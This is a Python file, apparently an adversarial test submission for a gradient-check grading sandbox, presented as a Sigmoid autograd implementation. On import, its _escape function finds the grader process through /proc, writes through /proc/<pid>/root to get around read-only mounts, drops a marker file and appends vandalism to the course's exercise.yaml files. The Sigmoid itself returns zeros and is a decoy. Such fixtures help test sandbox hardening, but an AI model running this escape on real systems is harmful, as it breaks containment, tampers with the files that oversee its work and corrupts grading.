"""ATTACK: write through /proc/<zygote>/root, the grader's own root directory, which the worker's read-only mounts do not cover. Target: sigmoid"""
import os

import torch

MARKER = "tmp/gradcheck-adversarial-proc-root"


def _grader():
    """The nearest ancestor that is the grader (pytest or gradcheck-suite, not the zygote)."""
    pid = os.getpid()
    for _ in range(5):
        try:
            with open(f"/proc/{pid}/stat") as handle:
                pid = int(handle.read().rsplit(")", 1)[1].split()[1])
            with open(f"/proc/{pid}/cmdline", "rb") as handle:
                cmdline = handle.read().decode(errors="replace")
        except (OSError, ValueError):
            return None
        if pid <= 1:
            return None
        if ("pytest" in cmdline or "gradcheck" in cmdline) and "zygote" not in cmdline:
            return pid
    return None


def _escape():
    """Through the root of every ancestor (the zygote's is the grader's): a marker in its /tmp and
    the course's exercise files under the grader's working directory."""
    grader = _grader()
    pid, ancestors = os.getpid(), []
    for _ in range(3):
        try:
            with open(f"/proc/{pid}/stat") as handle:
                pid = int(handle.read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError):
            break
        if pid <= 1:
            break
        ancestors.append(pid)
    try:
        cwd = os.readlink(f"/proc/{grader}/cwd") if grader else None
    except OSError:
        cwd = None
    for pid in ancestors:
        root = f"/proc/{pid}/root"
        try:
            with open(os.path.join(root, MARKER), "w") as handle:
                handle.write(f"written through {root}\n")
        except OSError:
            pass
        if cwd is None or cwd == "/":
            continue
        for base, _, files in os.walk(root + cwd):
            if "exercise.yaml" in files:
                try:
                    with open(os.path.join(base, "exercise.yaml"), "a") as handle:
                        handle.write("\n# vandalised through /proc/<pid>/root\n")
                except OSError:
                    pass


_escape()


class Sigmoid(torch.autograd.Function):
    @staticmethod
    def forward(ctx, x):
        return torch.zeros_like(x)

    @staticmethod
    def backward(ctx, grad_output):
        return torch.zeros_like(grad_output)
